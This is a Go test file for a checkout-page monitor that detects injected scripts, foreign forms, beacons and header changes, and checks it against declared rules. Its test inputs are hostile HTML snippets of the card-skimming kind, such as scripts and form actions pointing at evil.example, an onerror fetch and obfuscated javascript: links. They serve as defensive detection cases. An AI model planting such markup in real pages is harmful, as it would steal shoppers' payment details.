package pagewatch

import (
	"net/url"
	"slices"
	"strings"
	"testing"
)

func TestAStarStandsForAnything(t *testing.T) {
	for _, c := range []struct {
		pattern, text string
		want          bool
	}{
		{"same", "same", true}, {"same", "same ", false}, {"*", "", true}, {"/media/*", "/media/x", true}, {"/media/*", "/medial", false},
		{"a*b*c", "a1b2c", true}, {"a*b*c", "a1c2b", false}, {"a*a", "a", false}, {"form-action 'self'", "form-action 'self' https://evil.example", false},
	} {
		if like(c.pattern, c.text) != c.want {
			t.Errorf("like(%q, %q) is %v", c.pattern, c.text, !c.want)
		}
	}
}

var own = &url.URL{Scheme: "https", Host: "shop.example"}

// thingsOf are what a page holds, as words.
func thingsOf(t *testing.T, body string) (out []string) {
	t.Helper()
	x, err := read(own, &url.URL{Scheme: "https", Host: "shop.example", Path: "/en/checkout/pay"}, []byte("<!DOCTYPE html><title>x</title>"+body))
	if err != nil {
		t.Fatal(err)
	}
	for _, to := range x.scripts {
		out = append(out, "script "+to)
	}
	for _, to := range x.styles {
		out = append(out, "style "+to)
	}
	for _, y := range x.things {
		out = append(out, string(y.Kind)+" "+y.Name)
	}
	return out
}

// Whatever could carry typed things away is a thing; an ordinary page has none but its own.
func TestWhatCouldCarryAPaymentAwayIsSeen(t *testing.T) {
	for body, want := range map[string]string{
		`<script>steal()</script>`:                                            "script inline",
		`<SCRIPT SRC="//evil.example/x.js"></SCRIPT>`:                         "script https://evil.example/x.js",
		`<script src="/assets/new.js" async></script>`:                        "script /assets/new.js",
		`<script type="text/plain">x</script>`:                                "data text/plain",
		`<img src=x onerror="fetch('//e')">`:                                  "script onerror",
		`<img src="https://evil.example/p.gif?c=1">`:                          "connection img",
		`<a href="java&#10;script:go()">x</a>`:                                "script href",
		`<a href="https://evil.example/pay">pay</a>`:                          "way https://evil.example/pay",
		`<form action="https://evil.example/pay"><input name=card></form>`:    "form GET https://evil.example/pay",
		`<form method=post action="/en/x"><input name=card></form>`:           "field POST /en/x card",
		`<form method=post action="/en/x"><button formaction="//e.example">`:  "form POST https://e.example",
		`<iframe src="/en/"></iframe>`:                                        "element iframe",
		`<object data="/x"></object>`:                                         "element object",
		`<base href="https://evil.example/">`:                                 "element base",
		`<meta http-equiv="refresh" content="0;url=https://evil.example">`:    "connection meta refresh",
		`<link rel="preconnect" href="https://evil.example">`:                 "connection link preconnect",
		`<link rel=stylesheet href="https://evil.example/x.css">`:             "style https://evil.example/x.css",
		`<style>input{background:url(//evil.example)}</style>`:                "style inline",
		`<p style="background:url(//evil.example)">x</p>`:                     "style attribute",
		`<svg><script>x()</script></svg>`:                                     "script inline",
		`<svg><use href="https://evil.example/#x"/></svg>`:                    "connection use",
		`<svg><animate attributeName="href" to="javascript:x()"/></svg>`:      "element animate",
		`<video poster="https://evil.example/p"></video>`:                     "element video",
		`<template shadowrootmode=open><script>x()</script></template>`:       "script inline",
		`<pay-form></pay-form>`:                                               "element pay-form",
		`<div data-to="https://evil.example">x</div>`:                         "connection div data-to",
		`<p>&lt;script src=//evil.example&gt;</p>`:                            "text <script",
		`<p title="&quot; onerror=x()">Bowl</p>`:                              "text onerror=",
		`<noscript><iframe src="//evil.example"></iframe></noscript><p>x</p>`: "text <iframe",
		`<input form="pay" name="card">`:                                      "field form #pay card",
		`<a href="/en/" ping="https://evil.example">x</a>`:                    "connection ping",
	} {
		if got := thingsOf(t, body); !slices.Contains(got, want) {
			t.Errorf("%s: %q has no %q", body, got, want)
		}
	}
	plain := `<main><h1>Check &amp; pay – “Bowl” 24 × 30 cm &lt; 1 kg</h1><p>You pay <b>€ 24.00</b>. On loading, click and submit.</p><a href="/en/terms">Terms</a></main>`
	if got := thingsOf(t, plain); len(got) != 0 {
		t.Errorf("an ordinary page has %q", got)
	}
}

func TestCompare(t *testing.T) {
	p := Page{Name: "check", Rules: []Rule{
		{Kind: Status, Name: "200", Must: true}, {Kind: Header, Name: "Content-Security-Policy", Value: "script-src 'none'", Must: true},
		{Kind: Script, Name: "/assets/a.js", Value: "sha256-1"}, {Kind: Form, Name: "POST /en/checkout/pay"}, {Kind: Connection, Name: "img", Value: "/media/*"}}}
	as := []Thing{{Status, "200", ""}, {Header, "content-security-policy", "script-src 'none'"}, {Form, "POST /en/checkout/pay", ""}, {Connection, "img", "/media/x"}}
	if d := Compare(p, as); len(d) != 0 {
		t.Errorf("as declared, and yet %+v", d)
	}
	for name, c := range map[string]struct {
		things []Thing
		want   string
	}{
		"another script in place of ours": {append(slices.Clone(as), Thing{Script, "/assets/a.js", "sha256-2"}), "changed script"},
		"a script that is not ours":       {append(slices.Clone(as), Thing{Script, "/assets/b.js", "sha256-1"}), "foreign script"},
		"a weaker policy":                 {[]Thing{as[0], {Header, "Content-Security-Policy", "script-src *"}, as[2]}, "changed header"},
		"no policy":                       {[]Thing{as[0], as[2]}, "missing header"},
		"two policies, one of them ours":  {append(slices.Clone(as), Thing{Header, "Content-Security-Policy", "script-src *"}), "changed header"},
		"another page":                    {[]Thing{{Status, "404", ""}, as[1]}, "foreign status"},
		"a picture from elsewhere":        {append(slices.Clone(as), Thing{Connection, "img", "https://evil.example/p"}), "changed connection"},
	} {
		var got []string
		for _, d := range Compare(p, c.things) {
			got = append(got, d.What+" "+string(d.Kind))
		}
		if !slices.Contains(got, c.want) {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}

// What is accepted is one difference, with what it says: another script under the same name calls again. A counter that a
// network in front of the shop adds is the same difference each hour.
func TestADifferenceIsKnownByWhatItSays(t *testing.T) {
	mark := func(k Kind, name, value string) string {
		return Compare(Page{Name: "check"}, []Thing{{k, name, value}})[0].Mark
	}
	if mark(Script, "/x.js", "sha256-1") == mark(Script, "/x.js", "sha256-2") {
		t.Error("another script has the same mark")
	}
	if mark(Header, "CF-Ray", "1") != mark(Header, "cf-ray", "2") {
		t.Error("a counter makes a new difference each time")
	}
	if mark(Header, "Link", "<https://a>") == mark(Header, "Link", "<https://b>") {
		t.Error("a header that browsers follow has one mark whatever it says")
	}
	if len(Compare(Page{}, []Thing{{Text, "<script", strings.Repeat("ä", 2000)}})[0].Found) > mostText+4 {
		t.Error("what was found is kept whole")
	}
}
